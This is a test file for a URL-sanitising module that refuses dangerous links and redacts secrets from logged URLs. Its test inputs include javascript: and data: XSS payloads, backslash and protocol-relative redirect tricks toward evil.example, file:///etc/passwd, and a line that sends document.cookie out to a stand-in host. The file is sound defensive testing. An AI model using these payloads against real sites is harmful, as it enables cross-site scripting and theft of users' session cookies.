import { afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from 'vitest';
import { externalUrl, foreignScheme, isAppPath, redactUrl, safeUrl } from './safe-url';

let warn: MockInstance<typeof console.warn>;
beforeEach(() => {
  warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(() => warn.mockRestore());

describe('safeUrl', () => {
  it('keeps in-app paths and http(s) URLs, and logs nothing for them', () => {
    expect(safeUrl('/help#deposit')).toBe('/help#deposit');
    expect(safeUrl(' https://pay.example.com/order?id=1 ')).toBe('https://pay.example.com/order?id=1');
    expect(safeUrl('HTTP://Example.com/A')).toBe('http://example.com/A');
    expect(warn).not.toHaveBeenCalled();
  });

  it('refuses scripts, data, protocol-relative, backslash tricks and other schemes', () => {
    const refused = [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,<script>1</script>',
      'vbscript:x',
      '//evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      'ftp://x',
      'file:///etc/passwd',
      'blob:https://x/1',
      'not a url',
    ];
    for (const url of refused) expect(safeUrl(url), url).toBeNull();
    expect(warn).toHaveBeenCalledTimes(refused.length);
  });

  it('gives null without a log for no value at all', () => {
    for (const url of ['', '   ', null, undefined]) expect(safeUrl(url)).toBeNull();
    expect(warn).not.toHaveBeenCalled();
  });
});

describe('a refused URL in the log', () => {
  it('keeps scheme, host and path, never the query, fragment or user info', () => {
    safeUrl('ftp://alice:s3cret@files.example.com/dir/file?token=abc123#sig=xyz');
    const logged = String(warn.mock.calls[0]?.[0]);
    expect(logged).toContain('ftp://files.example.com/dir/file');
    for (const secret of ['alice', 's3cret', 'abc123', 'token', 'xyz']) expect(logged).not.toContain(secret);
  });

  it('keeps only the scheme of an opaque address (its body is the payload)', () => {
    expect(redactUrl('javascript:fetch("//x?c="+document.cookie)')).toBe('javascript:…');
    expect(redactUrl('data:text/html;base64,PHNjcmlwdD4=')).toBe('data:…');
  });

  it('names the host of a protocol-relative trick without its query', () => {
    expect(redactUrl('//evil.example/steal?token=abc')).toBe('http://evil.example/steal');
  });
});

describe('the parts of the check', () => {
  it('an app path is one leading slash, no whitespace or backslash', () => {
    expect(isAppPath('/member/withdraw?x=1')).toBe(true);
    for (const path of ['//x', '/\\x', '/a b', 'member', 'https://x'])
      expect(isAppPath(path), path).toBe(false);
  });

  it('an external URL is absolute http(s) only', () => {
    expect(externalUrl('https://x.example/a')).toBe('https://x.example/a');
    expect(externalUrl('/relative')).toBeNull();
  });

  it('a foreign scheme is any scheme but http(s); paths and http(s) have none', () => {
    for (const url of ['javascript:x', ' data:x', 'FILE:///x', 'blob:x', 'mailto:a@b'])
      expect(foreignScheme(url), url).toBe(true);
    for (const url of ['https://x', 'http://x', '/img/a.png', 'img/a.png', '//cdn.example/a.png'])
      expect(foreignScheme(url), url).toBe(false);
  });
});
